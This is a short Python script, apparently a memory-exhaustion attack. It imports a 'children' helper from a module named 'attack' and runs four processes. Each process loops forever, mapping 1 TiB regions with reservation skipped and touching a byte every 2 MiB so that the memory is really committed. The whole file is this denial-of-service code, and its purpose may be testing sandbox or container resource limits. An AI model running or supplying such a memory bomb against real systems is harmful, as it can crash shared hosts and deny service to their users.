import mmap
from attack import children
def touch(_):
    while True:
        memory = mmap.mmap(-1, 1 << 40, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000)
        for at in range(0, 1 << 40, 1 << 21): memory[at] = 1
children(3, touch)
touch(0)
